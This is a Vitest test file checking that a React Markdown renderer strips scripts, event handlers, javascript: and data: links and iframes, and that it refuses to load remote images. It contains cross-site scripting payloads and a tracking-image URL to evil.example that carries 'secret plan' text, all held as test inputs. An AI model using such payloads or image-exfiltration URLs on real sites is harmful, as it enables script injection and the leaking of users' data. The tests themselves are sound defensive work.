import { afterEach, describe, expect, it, vi } from 'vitest';
import { cleanup, render } from '@testing-library/react';
import { Markdown } from '../components/markdown';

afterEach(cleanup);

const HOSTILE = [
  '# Title',
  '<script>window.__pwned = 1</script>',
  '<img src=x onerror="window.__pwned = 2">',
  '<a href="javascript:window.__pwned=3">raw html link</a>',
  '[click me](javascript:window.__pwned=4)',
  '[sneaky](JaVaScRiPt:alert(1))',
  '[encoded](&#106;avascript:alert(1))',
  '[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '![img](javascript:alert(1))',
  '<iframe src="https://evil.example"></iframe>',
].join('\n\n') + '\n\n| a | b |\n|---|---|\n| **bold** | [ok](https://example.com) |\n';

describe('Markdown', () => {
  it('renders hostile Markdown without running anything or keeping dangerous links', () => {
    const w = window as unknown as { __pwned?: number };
    const alert = vi.fn();
    vi.stubGlobal('alert', alert);
    const { container } = render(<Markdown text={HOSTILE} />);

    expect(container.querySelector('h1')?.textContent).toBe('Title');
    expect(container.querySelectorAll('script, iframe, object, embed, style').length).toBe(0);
    for (const el of container.querySelectorAll('*')) {
      for (const attr of el.attributes) {
        expect(attr.name.startsWith('on'), `${el.tagName} has ${attr.name}`).toBe(false);
        expect(/^\s*(javascript|data|vbscript):/i.test(attr.value), `${el.tagName} ${attr.name}=${attr.value}`).toBe(false);
      }
    }
    for (const a of container.querySelectorAll('a')) {
      if (!a.getAttribute('href')?.startsWith('https:')) (a as HTMLAnchorElement).click();
    }
    expect(w.__pwned).toBeUndefined();
    expect(alert).not.toHaveBeenCalled();
    // GFM still works, and a safe link survives.
    expect(container.querySelector('table strong')?.textContent).toBe('bold');
    expect(container.querySelector('a[href="https://example.com"]')).not.toBeNull();
    vi.unstubAllGlobals();
  });

  it('never loads a remote image: it shows a link instead, so rendering cannot leak the conversation', () => {
    const text = [
      '![chart](https://evil.example/pixel.png?d=the%20secret%20plan)',
      '![](http://127.0.0.1:9/leak?d=x)',
      '![proto](//evil.example/p.gif)',
      '![local](/favicon.svg)',
    ].join('\n\n');
    const { container } = render(<Markdown text={text} />);
    const images = [...container.querySelectorAll('img')].map((i) => i.getAttribute('src'));
    expect(images).toEqual(['/favicon.svg']);
    const links = [...container.querySelectorAll('a.remote-image')];
    expect(links.map((a) => a.getAttribute('href'))).toEqual([
      'https://evil.example/pixel.png?d=the%20secret%20plan',
      'http://127.0.0.1:9/leak?d=x',
      '//evil.example/p.gif',
    ]);
    expect(links[0].textContent).toContain('chart');
    expect(links[0].textContent).toContain('evil.example');
    expect(links[0].getAttribute('rel')).toContain('noreferrer');
  });

  it("shows a template's placeholders as the text they are", () => {
    const { container } = render(<Markdown text={'# <Skill name>\n\n## When to use\n- <situation>\n\n- **<Blocker>**: <meaning>\n'} />);
    expect(container.querySelector('h1')?.textContent).toBe('<Skill name>');
    const items = [...container.querySelectorAll('li')].map((li) => li.textContent?.trim());
    expect(items).toEqual(['<situation>', '<Blocker>: <meaning>']);
  });
});
